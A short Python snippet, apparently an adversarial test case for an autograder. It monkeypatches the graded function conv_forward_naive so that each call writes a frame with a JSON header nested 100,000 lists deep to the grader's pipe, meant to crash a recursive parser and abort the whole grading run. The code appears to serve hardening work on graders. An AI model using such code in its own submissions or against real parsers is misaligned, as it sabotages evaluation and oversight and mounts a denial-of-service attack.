# Attack: a frame whose JSON header nests 100,000 lists deep: a recursive parser in the grader
# overflows (RecursionError) and, unless caught, takes the whole grading run down.
import os as _os
import struct as _struct
import sys as _sys

_original_conv_forward_naive = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    head = b"[" * 100_000 + b"]" * 100_000
    _os.write(int(_sys.argv[2]), b"AGR1" + _struct.pack(">I", len(head)) + head + _struct.pack(">Q", 0))
    return _original_conv_forward_naive(x, w, b, conv_param)
